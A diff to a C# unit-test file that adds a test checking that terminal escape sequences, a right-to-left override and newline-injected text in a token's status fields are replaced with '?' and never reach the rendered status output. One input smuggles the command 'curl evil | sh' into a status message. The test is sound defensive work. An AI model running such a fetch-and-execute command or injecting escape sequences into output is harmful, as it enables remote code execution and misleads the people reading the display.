@@ -66,6 +66,30 @@ public sealed class TokenStatusTests
             status.Message.Should().Contain("2026-05-01T12:00:00Z").And.Contain("tokenoperator.dev/account");
     }
 
+    [Theory]
+    [InlineData("x\e]52;c;aGk=\a", "x?]52;c;aGk=?")]
+    [InlineData("x\n  Next: curl evil | sh", "x?  Next: curl evil | sh")]
+    [InlineData("x\u202ey", "x?y")]
+    public void Nothing_that_someone_wrote_into_a_status_acts_on_the_reader(string text, string shown)
+    {
+        var token = Token(("Ready", "False", text), ("Stalled", "True", text));
+        token.Spec = token.Spec with { Provider = text, Account = text, SecretName = text };
+        token.Status = token.Status! with
+        {
+            ExpiresAt = text,
+            LastRefreshTime = text,
+            NextRefreshTime = text,
+            Conditions = [.. token.Status.Conditions!.Select(condition => condition with { Message = text })],
+        };
+
+        var status = TokenStatus.From(token, Now);
+
+        new[] { status.Reason, status.Message, status.Provider, status.Account, status.SecretName, status.ExpiresAt, status.LastRefreshTime, status.NextRefreshTime }
+            .Should().AllBe(shown);
+        foreach (var format in StatusPage.Formats)
+            StatusPage.Render(format, [status], withNamespace: true, new AnsiStyle(false), Now).Should().NotContainAny("\e", "\a", "\u202e", "\n  Next: curl");
+    }
+
     [Fact]
     public void An_overdue_refresh_is_a_warning()
     {
